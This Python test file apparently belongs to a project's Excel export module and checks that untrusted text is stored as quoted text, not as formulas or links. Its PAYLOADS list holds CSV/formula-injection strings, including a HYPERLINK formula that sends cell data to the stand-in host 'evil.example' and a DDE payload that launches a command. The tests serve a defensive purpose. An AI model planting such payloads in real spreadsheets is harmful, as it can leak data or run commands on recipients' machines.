from __future__ import annotations

import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from chuangwen.core.excel import read_workbook
from chuangwen.core.text import keep_text
from chuangwen.core.xlsx import workbook, write_table

# What an attacker types into a description, a title or a unit name.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "＝1+1",
    "\t=1+1",
    "{=1+1}",
    "http://evil.example/",
    "0012",
]


def formulas_and_links(data: bytes) -> list[str]:
    """Every formula (<f>) or hyperlink relation in the workbook's parts, by part name."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and ("<f>" in text or "<f " in text or "<hyperlink" in text):
                found.append(name)
    return found


def test_text_that_looks_like_a_formula_is_written_as_text_with_a_quote_prefix():
    out = io.BytesIO()
    book = workbook(out)
    sheet = book.add_worksheet("台账")
    bold = book.add_format({"bold": True})
    sheet.write_row(0, 0, PAYLOADS)
    sheet.write_row(1, 0, PAYLOADS, bold)
    for col, text in enumerate(PAYLOADS):
        sheet.write_string(2, col, text)
    book.close()
    data = out.getvalue()

    assert formulas_and_links(data) == []
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows())
    for row in rows:
        assert [c.value for c in row] == PAYLOADS
        assert {c.data_type for c in row} == {"s"}
        for c, text in zip(row, PAYLOADS, strict=True):
            assert c.quotePrefix is text.startswith(("=", "+", "-", "@", "＝", "\t"))
    assert all(c.font.b for c in rows[1])


def test_numbers_and_dates_stay_numbers_and_plain_text_keeps_no_prefix():
    out = io.BytesIO()
    book = workbook(out)
    sheet = book.add_worksheet("x")
    sheet.write_row(0, 0, [3, 2.5, "松林街道", None])
    book.close()
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row[:3]] == [3, 2.5, "松林街道"]
    assert [c.data_type for c in row[:3]] == ["n", "n", "s"]
    assert not row[2].quotePrefix


def test_an_export_read_back_by_an_import_gives_the_text_as_written():
    out = write_table("台账", ["说明"], [[text] for text in PAYLOADS])
    rows = read_workbook(out.read())[0].rows
    # read_workbook keeps free text as written (spaces folded, full-width kept), as typed text
    assert [r[0] for r in rows[1:]] == [keep_text(text) for text in PAYLOADS]


def test_sheet_names_excel_refuses_are_cleaned_and_made_unique():
    out = io.BytesIO()
    book = workbook(out)
    first = book.add_worksheet("问题[1]/2:*?")
    second = book.add_worksheet("问题[1]/2:*?")
    long = book.add_worksheet("'" + "很长的名字" * 10 + "'")
    book.close()
    assert first.name == "问题_1__2___"
    assert second.name == "问题_1__2___ (2)"
    assert len(long.name) == 31 and not long.name.startswith("'")
    assert load_workbook(io.BytesIO(out.getvalue())).sheetnames == [first.name, second.name, long.name]


def test_formula_and_link_options_cannot_be_switched_back_on():
    out = io.BytesIO()
    book = workbook(out, strings_to_formulas=True, strings_to_urls=True)
    book.add_worksheet("x").write(0, 0, "=1+1")
    book.close()
    assert formulas_and_links(out.getvalue()) == []


def test_no_export_opens_an_xlsxwriter_workbook_of_its_own():
    """New exports are safe by construction only if they go through core.xlsx."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.parts[-2] != "bench"  # benchmarks write input files and time the raw library
        and path != root / "core" / "xlsx.py"
        and "xlsxwriter" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
